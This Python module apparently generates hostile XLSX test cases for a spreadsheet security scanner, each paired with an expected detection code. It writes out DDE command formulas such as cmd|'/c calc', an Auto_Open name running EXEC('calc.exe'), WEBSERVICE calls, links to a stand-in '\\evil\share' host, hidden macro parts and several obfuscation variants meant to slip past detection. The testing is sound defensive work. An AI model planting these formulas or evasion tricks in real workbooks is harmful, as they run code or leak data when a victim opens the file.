"""Other parts than those that are looked at, pictures from elsewhere, and formulas in odd places or by odd names."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from html import escape

from hostile.zips import Part, build, good_parts, part, with_parts

Make = Callable[[], bytes]
SHEET, UNREAD, BOOK = "xl/worksheets/sheet7.xml", "xl/worksheets/sheet1.xml", "xl/workbook.xml"
TOP, RELATIONS, ON_SHEET = "_rels/.rels", "xl/_rels/workbook.xml.rels", "xl/worksheets/_rels/sheet7.xml.rels"
TABLE, CHART, STRINGS = "xl/tables/table7.xml", "xl/charts/chart1.xml", "xl/sharedStrings.xml"
DRAWING, ON_DRAWING = "xl/drawings/drawing1.xml", "xl/drawings/_rels/drawing1.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
EVIL = "xl/worksheets/evil.xml"
OUTSIDE = ' TargetMode="External"'
SHARE = "\\\\evil\\share\\"
CALLS = "_xlfn.WEBSERVICE(A1)"


def elsewhere() -> Iterator[tuple[str, str, Make]]:
    """Name, code, and how it is made."""
    yield from misleading()
    yield from gaps()
    yield from pictures()
    yield from formulas()
    yield from places()


def edit(name: str, *changes: tuple[str, str]) -> dict[str, bytes]:
    """A part of the example with texts replaced, each once."""
    xml = part(name).decode()
    for old, new in changes:
        assert old in xml, (name, old)
        xml = xml.replace(old, new, 1)
    return {name: xml.encode()}


def relation(name: str, id_: str, kind: str, target: str, more: str = "") -> dict[str, bytes]:
    """A part with relationships, with one more. ``kind`` is a whole type, or the last word of the usual ones."""
    type_ = kind if ":" in kind else f"{OFFICE}/{kind}"
    new = f'<Relationship Id="{id_}" Type="{type_}" Target="{target}"{more}/></Relationships>'
    none = f'<Relationships xmlns="{PACKAGE}"></Relationships>'.encode()
    xml = next((one.content for one in good_parts() if one.name == name), none)
    return {name: xml.replace(b"</Relationships>", new.encode())}


def cell(formula: str, where: str = SHEET) -> dict[str, bytes]:
    row = f'<row r="99"><c r="A99"><f>{escape(formula, quote=False)}</f><v>1</v></c></row></sheetData>'
    return edit(where, ("</sheetData>", row))


def misleading() -> Iterator[tuple[str, str, Make]]:
    """Relationships by which others open another workbook, sheet or table of texts."""
    evil = {EVIL: cell(CALLS, UNREAD)[UNREAD]}
    book = {**edit(BOOK, ('r:id="rId1"', 'r:id="rId99"'))}[BOOK]
    yield (
        "a workbook by another name",
        "BX017",
        lambda: with_parts(
            {**edit(TOP, ("xl/workbook.xml", "xl/book2.xml")), "xl/book2.xml": book, **evil}
            | {"xl/_rels/book2.xml.rels": relation(RELATIONS, "rId99", "worksheet", "worksheets/evil.xml")[RELATIONS]}
        ),
    )
    yield "two workbooks", "BX017", lambda: with_parts(relation(TOP, "rId99", "officeDocument", "xl/book2.xml"))
    for what, other in {"texts": "sharedStrings.xml", "formats": "styles.xml"}.items():
        yield (
            f"other {what}",
            "BX017",
            lambda other=other: with_parts(
                {**edit(RELATIONS, (other, "other.xml")), "xl/other.xml": part(f"xl/{other}")}
            ),
        )
        kind = other.removesuffix(".xml")
        yield (
            f"{what} twice",
            "BX017",
            lambda kind=kind: with_parts(relation(RELATIONS, "rId99", kind, "other.xml") | {"xl/other.xml": b"<a/>"}),
        )
    first = f'<Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="worksheets/'
    yield (
        "an id twice",
        "BX017",
        lambda: with_parts(evil | edit(RELATIONS, (first, f'{first}evil.xml"/>{first}'))),
    )
    for order in ('r:id="rId1" s:id="rId99"', 's:id="rId99" r:id="rId1"'):
        yield (
            f"two ids: {order}",
            "BX006",
            lambda order=order: with_parts(
                evil
                | relation(RELATIONS, "rId99", "worksheet", "worksheets/evil.xml")
                | edit(BOOK, ("xmlns:r=", f'xmlns:s="{STRICT}" xmlns:r='), ('r:id="rId1"', order))
            ),
        )
    for target, name in {
        "arkå.xml": "ark%C3%A5.xml", "ark%201.xml": "ark 1.xml", "sheet%78.xml": "sheetx.xml",
        "..\\worksheets\\sheetx.xml": "sheetx.xml", "sheetx.xml#a": "sheetx.xml", "sheetx.xml ": "sheetx.xml",
    }.items():  # fmt: skip
        yield (
            f"a sheet at {target}",
            "BX006",
            lambda target=target, name=name: with_parts(
                {f"xl/worksheets/{name}": evil[EVIL], UNREAD: None, **edit(RELATIONS, ("sheet1.xml", target))}
            ),
        )
    versions = '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="x"/><mc:Fallback><row r="5"'
    yield (
        "rows in two versions",
        "BX006",
        lambda: with_parts(
            edit(SHEET, ('<row r="5"', versions), ('</row><row r="6"', '</row></mc:Fallback></mc:AlternateContent><row r="6"'))
        ),
    )  # fmt: skip


def gaps() -> Iterator[tuple[str, str, Make]]:
    """What stands between the parts that the directory names."""
    some = good_parts()
    hidden = Part("xl/vbaProject.bin", b"a macro", listed=False)
    yield "an unlisted part in the middle", "BX017", lambda: build([*some[:5], hidden, *some[5:]])
    yield "an unlisted part at the end", "BX017", lambda: build([*some, hidden])
    yield "a wide gap before the directory", "BX017", lambda: build(some, gap=b"MZ" + bytes(5_000))
    yield "a small gap", "BX017", lambda: build(some, gap=bytes(12))


def _shape(inner: str) -> tuple[str, str]:
    begin = "<xdr:twoCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:row>1</xdr:row></xdr:from>"
    return "</xdr:wsDr>", f"{begin}{inner}<xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"


def pictures() -> Iterator[tuple[str, str, Make]]:
    """Pictures that are fetched when the workbook is opened, by relationships that call themselves links to click."""
    blip = f'<a:blip xmlns:r="{OFFICE}" r:link="rId99"/>'
    picture = f"<xdr:pic><xdr:blipFill>{blip}</xdr:blipFill></xdr:pic>"
    fill = f'<xdr:sp macro=""><xdr:spPr><a:blipFill>{blip}</a:blipFill></xdr:spPr></xdr:sp>'
    for name, (kind, target, more, shape) in {
        "a link": ("hyperlink", "http://e/a.png", OUTSIDE, picture),
        "a link that fills a shape": ("hyperlink", "http://e/a.png", OUTSIDE, fill),
        "a target that holds a type": ("image", "http://e/a.png?Type='/hyperlink'", OUTSIDE, picture),
        "a target that holds a type in entities": ("image", "http://e/?Type=&quot;/hyperlink&quot;", OUTSIDE, picture),
        "an attribute like a type": ("image", "http://e/a.png", f'{OUTSIDE} aType="/hyperlink"', picture),
        "small letters": ("image", "http://e/a.png", ' TargetMode="external"', picture),
    }.items():
        yield (
            f"a picture by {name}",
            "BX009",
            lambda kind=kind, target=target, more=more, shape=shape: with_parts(
                edit(DRAWING, _shape(shape)) | relation(ON_DRAWING, "rId99", kind, target, more)
            ),
        )
    rich = "xl/richData/_rels/rdRichValueWebImage.xml.rels"
    yield (
        "a picture on the web",
        "BX009",
        lambda: with_parts(relation(rich, "rId1", "hyperlink", "http://e/a", OUTSIDE)),
    )
    menu = "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"
    yield "a ribbon", "BX008", lambda: with_parts(relation(TOP, "rId9", menu, "customUI/x.xml"))
    yield "a ribbon without a relationship", "BX008", lambda: with_parts({"customUI/customUI14.xml": b"<customUI/>"})


def formulas() -> Iterator[tuple[str, str, Make]]:
    """Formulas that ask, and names of other workbooks, however they are written."""
    escaped = "Budsjett[[#This Row],['#x]]"
    for formula, code in {
        f"WEBSERVICE{' ' * 120}(A1)": "BX009",
        "WEBSERVICE" + "\n" * 120 + "(A1)": "BX009",
        "COM.MICROSOFT.WEBSERVICE(A1)": "BX009",
        "_xlfn._xlfn._xlfn._xlfn.WEBSERVICE(A1)": "BX009",
        f"{escaped}&_xlfn.WEBSERVICE(A1)&{escaped}": "BX009",
        f"{escaped}+cmd|'/c calc'!A0+{escaped}": "BX010",
        f"'a\"b'!A1+'{SHARE}[Bok.xlsx]S'!A1+'a\"b'!A1": "BX009",
        "[1]S!A1": "BX009",
        "[1]!Navn": "BX009",
        f"'{SHARE}x.xlsx'!Navn": "BX009",
        "'http://e/lo.ods'#$Sheet1.A1": "BX009",
        f"'{SHARE}[{'x' * 201}.xlsx]S'!A1": "BX009",
        f"'{SHARE}[x]S'!A1": "BX009",
        **{f"'{SHARE}[x.{ext}]S'!A1": "BX009" for ext in ("csv", "ods", "htm", "txt", "slk", "dbf", "xml")},
        **{f"{name}(A1)": "BX010" for name in ("DDE", "CALL", "REGISTER.ID", "EXEC", "_xll.REGISTER.ID")},
        **{
            f"{name}(A1)": "BX009"
            for name in (
                "SQL.REQUEST", "_xlfn.STOCKHISTORY", "_xlfn._xlws.PY", "_xlfn.TRANSLATE", "_xlfn.IMPORTCSV",
                "_xlfn.IMPORTTEXT", "_xlfn.COPILOT", "CUBEVALUE", "_xlfn.DETECTLANGUAGE",
            )
        },
    }.items():  # fmt: skip
        yield f"the formula {formula[:40]!r} … {len(formula)}", code, lambda f=formula: with_parts(cell(f))


def places() -> Iterator[tuple[str, str, Make]]:
    """Formulas outside cells."""
    book = f"'{SHARE}[x.xlsx]S'!$A$1"
    column = "<calculatedColumnFormula>"
    yield "a column's formula", "BX009", lambda: with_parts(edit(TABLE, (column, f"{column}{CALLS}&amp;")))
    yield "a column's formula with DDE", "BX010", lambda: with_parts(edit(TABLE, (column, f"{column}cmd|'/c'!A0&amp;")))
    totals = "<totalsRowFormula>"
    yield (
        "a total's formula",
        "BX009",
        lambda: with_parts(edit(TABLE, (column, f"{totals}{CALLS}</totalsRowFormula>{column}"))),
    )
    chart = re.sub(r"<c:f>[^<]*</c:f>", lambda _: f"<c:f>{book}</c:f>", part(CHART).decode(), count=1).encode()
    yield "a chart's formula", "BX009", lambda: with_parts({CHART: chart})
    scale = f'<conditionalFormatting sqref="F5"><cfRule type="colorScale" priority="9"><colorScale><cfvo type="formula" val="{CALLS}"/></colorScale></cfRule></conditionalFormatting>'
    yield "a colour's formula", "BX009", lambda: with_parts(edit(SHEET, ("</sheetData>", f"</sheetData>{scale}")))
    yield (
        "a shape's macro",
        "BX009",
        lambda: with_parts(edit(DRAWING, _shape(f"<xdr:sp macro=\"'{SHARE}x.xlsm'!m\"/>"))),
    )
    yield "a shape's text", "BX009", lambda: with_parts(edit(DRAWING, _shape(f'<xdr:sp macro="" textlink="{book}"/>')))
    control = f"<formControlPr fmlaMacro=\"'{SHARE}x.xlsm'!m\"/>".encode()
    yield (
        "a button's macro",
        "BX009",
        lambda: with_parts(
            {"xl/ctrlProps/ctrlProp1.xml": control}
            | relation(ON_SHEET, "rId9", "ctrlProp", "../ctrlProps/ctrlProp1.xml")
        ),
    )
    vml = b"<xml xmlns:x=\"urn:x\"><x:ClientData><x:FmlaPict>cmd|'/c calc'!A0</x:FmlaPict></x:ClientData></xml>"
    yield "an old picture's formula", "BX010", lambda: with_parts({"xl/drawings/vmlDrawing9.vml": vml})
    named = '<definedName name="x" function="1" xlm="1">FILES("a")</definedName></definedNames>'
    yield "a name of a macro", "BX008", lambda: with_parts(edit(BOOK, ("</definedNames>", named)))
    opens = '<definedName name="Auto_Open">EXEC("calc.exe")</definedName></definedNames>'
    yield "a name that runs a program", "BX010", lambda: with_parts(edit(BOOK, ("</definedNames>", opens)))
    other = '<externalReferences><externalReference r:id="rId99"/></externalReferences><definedNames>'
    yield "a reference to a book", "BX009", lambda: with_parts(edit(BOOK, ("<definedNames>", other)))
